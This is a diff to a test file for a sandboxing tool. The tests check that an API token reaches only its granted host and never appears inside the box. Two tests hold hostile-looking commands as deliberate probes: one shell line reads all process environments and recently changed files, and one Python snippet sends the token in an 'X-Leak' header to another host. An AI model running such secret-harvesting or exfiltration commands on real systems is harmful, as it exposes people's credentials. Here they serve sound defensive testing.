@@ -8,6 +8,7 @@ HTTP_PROXY, a CONNECT tunnel, SOCKS5, and a direct connection that ignores
 the proxy.
 """
 
+import datetime
 import hashlib
 import os
 import textwrap
@@ -24,7 +25,7 @@ os.environ.setdefault("TESTCONTAINERS_RYUK_DISABLED", "true")  # its reaper imag
 
 SERVER = textwrap.dedent(
     """
-    import http.server, socketserver, threading
+    import hashlib, http.server, os, socketserver, ssl, threading
     BODY = bytes(range(256)) * 4000
     class Files(http.server.BaseHTTPRequestHandler):
         def do_GET(self):
@@ -33,12 +34,47 @@ SERVER = textwrap.dedent(
     class Echo(socketserver.BaseRequestHandler):
         def handle(self):
             while data := self.request.recv(65536): self.request.sendall(data)
+    class Digest(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            body = hashlib.sha256(self.headers.get("Authorization", "").encode()).hexdigest().encode()
+            self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
+        def log_message(self, *a): pass
     socketserver.ThreadingTCPServer.allow_reuse_address = True
     threading.Thread(target=socketserver.ThreadingTCPServer(("", 7000), Echo).serve_forever, daemon=True).start()
+    open("/tmp/cert.pem", "w").write(os.environ["CERT"]); open("/tmp/key.pem", "w").write(os.environ["KEY"])
+    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); tls.load_cert_chain("/tmp/cert.pem", "/tmp/key.pem")
+    api = http.server.ThreadingHTTPServer(("", 8443), Digest); api.socket = tls.wrap_socket(api.socket, server_side=True)
+    threading.Thread(target=api.serve_forever, daemon=True).start()
     http.server.ThreadingHTTPServer(("", 8000), Files).serve_forever()
     """
 )
 BODY = bytes(range(256)) * 4000
+REAL = "real-token-" + os.urandom(12).hex()
+
+
+def issue_certificates(here, name: str) -> tuple[str, str]:
+    """A test authority (its certificate at here/ca.pem, for the host to trust) and a server certificate and key for `name`."""
+    from cryptography import x509
+    from cryptography.hazmat.primitives import hashes, serialization
+    from cryptography.hazmat.primitives.asymmetric import ec
+    from cryptography.x509.oid import NameOID
+
+    now = datetime.datetime.now(datetime.timezone.utc)
+    ca_key, key = ec.generate_private_key(ec.SECP256R1()), ec.generate_private_key(ec.SECP256R1())
+    ca_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "egress test authority")])
+
+    def issued(subject, public_key, ca: bool):
+        builder = x509.CertificateBuilder().subject_name(subject).issuer_name(ca_name).public_key(public_key)
+        builder = builder.serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(hours=1))
+        builder = builder.not_valid_after(now + datetime.timedelta(days=1)).add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
+        if not ca:
+            builder = builder.add_extension(x509.SubjectAlternativeName([x509.DNSName(name)]), critical=False)
+        return builder.sign(ca_key, hashes.SHA256())
+
+    pem = serialization.Encoding.PEM
+    (here / "ca.pem").write_bytes(issued(ca_name, ca_key.public_key(), True).public_bytes(pem))
+    leaf = issued(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)]), key.public_key(), False)
+    return leaf.public_bytes(pem).decode(), key.private_bytes(pem, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()).decode()
 
 
 @pytest.fixture(scope="module")
@@ -47,15 +83,17 @@ def outside(engine, tmp_path_factory):
     from testcontainers.core.container import DockerContainer
     from testcontainers.core.network import Network
 
+    here = tmp_path_factory.mktemp("egress")
+    cert, key = issue_certificates(here, "api.test")
     with Network() as network:
-        server = DockerContainer(DEFAULT_IMAGE, command=["python3", "-c", SERVER], network=network)
+        server = DockerContainer(DEFAULT_IMAGE, command=["python3", "-c", SERVER], network=network, env={"CERT": cert, "KEY": key})
         with server:
             server.get_wrapped_container().reload()
             address = server.get_wrapped_container().attrs["NetworkSettings"]["Networks"][network.name]["IPAddress"]
             subnet = engine.api.inspect_network(network.id)["IPAM"]["Config"][0]["Subnet"]
-            hosts = tmp_path_factory.mktemp("egress") / "hosts"
-            hosts.write_text(f"{address} files.test echo.test\n")
-            env = {**os.environ, "QUINEBOX_EGRESS_HOSTS": str(hosts)}
+            hosts = here / "hosts"
+            hosts.write_text(f"{address} files.test echo.test api.test\n")
+            env = {**os.environ, "QUINEBOX_EGRESS_HOSTS": str(hosts), "SSL_CERT_FILE": str(here / "ca.pem")}
             probe = "import socket,time\nfor _ in range(100):\n try: socket.create_connection(('127.0.0.1', 8000), 1).close(); break\n except OSError: time.sleep(0.1)"
             assert server.exec(["python3", "-c", probe]).exit_code == 0
             yield subnet, address, env
@@ -136,3 +174,37 @@ def test_an_agent_is_told_where_it_may_go_and_its_tape_records_each_connection(o
     assert record["down"] > len(BODY)
     shown = qb("show", result.session).stdout.decode()
     assert f"egress    files.test:8000 ({address}) allowed by net:{subnet}" in shown, shown
+
+
+SECRET_CLIENT = textwrap.dedent(
+    """
+    import os, urllib.request
+    request = urllib.request.Request("https://api.test:8443/", headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]})
+    print(urllib.request.urlopen(request, timeout=10).read().decode())
+    print(os.environ["API_TOKEN"])
+    """
+)
+
+
+def test_a_secret_reaches_its_host_and_is_nowhere_in_the_box(outside):
+    subnet, _, env = outside
+    env = {**env, "API_TOKEN": REAL}
+    grants = ["-g", f"net:{subnet}", "-g", "secret:API_TOKEN@api.test"]
+    done = qb("exec", *grants, "--", "python3", "-c", SECRET_CLIENT, env=env)
+    assert done.returncode == 0, done.stderr
+    digest, held = done.stdout.decode().splitlines()
+    assert digest == hashlib.sha256(f"Bearer {REAL}".encode()).hexdigest()  # the host got the real value
+    assert held.startswith("quinebox-secret-API_TOKEN-") and REAL not in held
+    look = "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline /run/quinebox/tls/*; env; find / -xdev -type f -newer /proc/1 2>/dev/null | xargs cat 2>/dev/null; true"
+    seen = qb("exec", *grants, "--", "sh", "-c", look, env=env)
+    assert seen.returncode == 0 and b"quinebox-secret-API_TOKEN-" in seen.stdout
+    assert REAL.encode() not in seen.stdout + seen.stderr
+
+
+def test_a_placeholder_sent_to_another_host_is_refused_as_exfiltration(outside):
+    subnet, _, env = outside
+    leak = "import os, urllib.request\ntry: urllib.request.urlopen(urllib.request.Request('http://files.test:8000/', headers={'X-Leak': os.environ['API_TOKEN']}))\nexcept Exception as e: print(e.code)"
+    done = qb("exec", "-g", f"net:{subnet}", "-g", "secret:API_TOKEN@api.test", "--", "python3", "-c", leak, env={**env, "API_TOKEN": REAL})
+    assert (done.returncode, done.stdout) == (0, b"403\n"), done.stderr
+    [line] = done.stderr.decode().splitlines()
+    assert "the request carries the placeholder of secret API_TOKEN, which goes only to api.test: recorded as an exfiltration attempt" in line
